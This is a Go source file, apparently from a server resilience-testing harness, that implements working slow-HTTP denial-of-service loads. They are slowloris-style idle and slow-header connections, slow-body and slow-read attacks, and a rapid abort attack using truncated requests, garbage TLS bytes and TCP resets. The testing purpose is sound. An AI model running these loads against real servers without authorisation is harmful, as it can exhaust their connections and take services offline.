package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// attack is one hostile client load. begin starts it; done is closed if it
// ends by itself before it is halted (nil: it never does); halt stops it,
// closing every socket, and returns a short description for the table.
type attack interface {
	begin(addr string) error
	done() <-chan struct{}
	halt() string
}

// slowInterval is how often the slow-header and slow-body attackers send
// their next piece (slowhttptest's default -i).
const slowInterval = 10 * time.Second

// connGroup is what both Go attackers keep to halt: a context that ends
// the attack, its goroutines, and its open connections.
type connGroup struct {
	ctx    context.Context
	cancel context.CancelFunc
	wg     sync.WaitGroup
	mu     sync.Mutex
	conns  map[net.Conn]struct{}
}

// init makes a fresh context and connection set; begin calls it first.
func (g *connGroup) init() {
	g.ctx, g.cancel = context.WithCancel(context.Background())
	g.conns = map[net.Conn]struct{}{}
}

// track registers c for closeAll; false if the attack is already halting.
func (g *connGroup) track(c net.Conn) bool {
	g.mu.Lock()
	defer g.mu.Unlock()
	if g.ctx.Err() != nil {
		return false
	}
	g.conns[c] = struct{}{}
	return true
}

// untrack forgets c, which its goroutine closes itself.
func (g *connGroup) untrack(c net.Conn) {
	g.mu.Lock()
	delete(g.conns, c)
	g.mu.Unlock()
}

// closeAll cancels the context, closes every tracked connection and waits
// for the attack's goroutines.
func (g *connGroup) closeAll() {
	g.mu.Lock()
	g.cancel()
	for c := range g.conns {
		c.Close()
	}
	g.mu.Unlock()
	g.wg.Wait()
}

// connAttack keeps n connections open, opened at a bounded rate, each
// sending head at once and then (if drip is set) drip every slowInterval,
// while a reader notices when the server closes it.
type connAttack struct {
	n        int
	rate     int
	rcvBuf   int    // SO_RCVBUF before connect; 0: the default
	head     string // sent after connecting
	drip     string // sent every slowInterval; "": nothing more
	maxDrips int    // at most this many drips per connection
	slowRead bool   // read 1 byte per second instead of all that comes

	connGroup
	opened  atomic.Int64
	dialErr atomic.Int64
	closed  atomic.Int64 // closed (or reset) by the server before the end
	got     atomic.Int64 // connections that received any byte
	lastErr atomic.Value // string: the last dial error
}

func idleAttack(rate int) *connAttack { return &connAttack{n: 3000, rate: rate} }

func slowHeadersAttack(rate int) *connAttack {
	return &connAttack{n: 1000, rate: rate, head: "GET / HTTP/1.1\r\nHost: x\r\n", drip: "X-a: b\r\n", maxDrips: 1 << 20}
}

func slowBodyAttack(rate int) *connAttack {
	return &connAttack{n: 1000, rate: rate, drip: "a", maxDrips: 4095,
		head: "POST /echo HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4096\r\n\r\n"}
}

func slowReadAttack(rate int) *connAttack {
	return &connAttack{n: 1000, rate: rate, rcvBuf: 1024, slowRead: true, head: "GET / HTTP/1.1\r\nHost: x\r\n\r\n"}
}

func (a *connAttack) done() <-chan struct{} { return nil }

func (a *connAttack) begin(addr string) error {
	a.init()
	d := &net.Dialer{Timeout: 10 * time.Second}
	if a.rcvBuf > 0 {
		d.Control = func(network, address string, c syscall.RawConn) error {
			var serr error
			err := c.Control(func(fd uintptr) {
				serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, a.rcvBuf)
			})
			return errors.Join(err, serr)
		}
	}
	a.wg.Add(1)
	go func() {
		defer a.wg.Done()
		tick := time.NewTicker(time.Second / time.Duration(a.rate))
		defer tick.Stop()
		for range a.n {
			select {
			case <-a.ctx.Done():
				return
			case <-tick.C:
			}
			a.wg.Add(1)
			go a.conn(d, addr)
		}
	}()
	return nil
}

// conn opens one connection and runs it until the server closes it or the
// attack halts.
func (a *connAttack) conn(d *net.Dialer, addr string) {
	defer a.wg.Done()
	c, err := d.DialContext(a.ctx, "tcp", addr)
	if err != nil {
		if a.ctx.Err() == nil {
			a.dialErr.Add(1)
			a.lastErr.Store(errKind(err))
		}
		return
	}
	if !a.track(c) {
		c.Close()
		return
	}
	a.opened.Add(1)
	readerDone := make(chan struct{})
	go func() {
		defer close(readerDone)
		a.read(c)
	}()
	if _, err := io.WriteString(c, a.head); err == nil && a.drip != "" {
		tick := time.NewTicker(slowInterval)
		defer tick.Stop()
		for range a.maxDrips {
			select {
			case <-a.ctx.Done():
			case <-readerDone:
			case <-tick.C:
				if _, err := io.WriteString(c, a.drip); err == nil {
					continue
				}
			}
			break
		}
	}
	<-readerDone
	a.untrack(c)
	c.Close()
}

// read reads what the server sends until it closes the connection or the
// attack halts (which closes c); slowly if a.slowRead.
func (a *connAttack) read(c net.Conn) {
	buf := make([]byte, 4096)
	if a.slowRead {
		buf = buf[:1]
	}
	var got bool
	for {
		n, err := c.Read(buf)
		if n > 0 && !got {
			got = true
			a.got.Add(1)
		}
		if err != nil {
			if a.ctx.Err() == nil {
				a.closed.Add(1)
			}
			return
		}
		if a.slowRead {
			select {
			case <-a.ctx.Done():
				return
			case <-time.After(time.Second):
			}
		}
	}
}

func (a *connAttack) halt() string {
	a.closeAll()
	s := fmt.Sprintf("%d/%d connected, %d closed by server", a.opened.Load(), a.n, a.closed.Load())
	if a.slowRead || a.got.Load() > 0 {
		s += fmt.Sprintf(", %d got bytes", a.got.Load())
	}
	if n := a.dialErr.Load(); n > 0 {
		s += fmt.Sprintf(", %d connects failed (%v)", n, a.lastErr.Load())
	}
	return s
}

// abortAttack opens rate connections per second, each doing one of four
// rude things in turn and then going away.
type abortAttack struct {
	rate int

	connGroup
	started  atomic.Int64
	dialErr  atomic.Int64
	skipped  atomic.Int64 // not started: too many still in flight
	inFlight atomic.Int64
}

// abortKinds are sent in turn; rst closes with SO_LINGER 0 (a reset
// instead of a FIN).
var abortKinds = []struct {
	send string
	rst  bool
}{
	{"GET / HTTP/1.1\r\nHost: x\r\nUser-Ag", false},
	{"GET / HTTP/1.1\r\nHost: x\r\nUser-Ag", true},
	{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 garbage \x00\xff\r\n\r\n", false},
	{"GET / HTTP/1.1\r\nHost: x\r\n\r\n", true},
}

const maxAbortsInFlight = 1000

func (a *abortAttack) done() <-chan struct{} { return nil }

func (a *abortAttack) begin(addr string) error {
	a.init()
	a.wg.Add(1)
	go func() {
		defer a.wg.Done()
		tick := time.NewTicker(time.Second / time.Duration(a.rate))
		defer tick.Stop()
		for i := 0; i < a.rate*int(maxProbeTime/time.Second); i++ {
			select {
			case <-a.ctx.Done():
				return
			case <-tick.C:
			}
			if a.inFlight.Load() >= maxAbortsInFlight {
				a.skipped.Add(1)
				continue
			}
			a.inFlight.Add(1)
			a.wg.Add(1)
			go a.one(addr, i%len(abortKinds))
		}
	}()
	return nil
}

// one makes one connection of kind k: it sends, waits 0–20 ms (so some
// requests are being answered when the connection goes) and closes.
func (a *abortAttack) one(addr string, k int) {
	defer a.wg.Done()
	defer a.inFlight.Add(-1)
	a.started.Add(1)
	d := net.Dialer{Timeout: 2 * time.Second}
	c, err := d.DialContext(a.ctx, "tcp", addr)
	if err != nil {
		if a.ctx.Err() == nil {
			a.dialErr.Add(1)
		}
		return
	}
	if !a.track(c) {
		c.Close()
		return
	}
	defer a.untrack(c)
	if abortKinds[k].rst {
		c.(*net.TCPConn).SetLinger(0)
	}
	c.SetWriteDeadline(time.Now().Add(2 * time.Second))
	io.WriteString(c, abortKinds[k].send)
	select {
	case <-a.ctx.Done():
	case <-time.After(rand.N(20 * time.Millisecond)):
	}
	c.Close()
}

func (a *abortAttack) halt() string {
	a.closeAll()
	s := fmt.Sprintf("%d connections", a.started.Load())
	if n := a.dialErr.Load(); n > 0 {
		s += fmt.Sprintf(", %d connects failed", n)
	}
	if n := a.skipped.Load(); n > 0 {
		s += fmt.Sprintf(", %d skipped (%d in flight)", n, maxAbortsInFlight)
	}
	return s
}
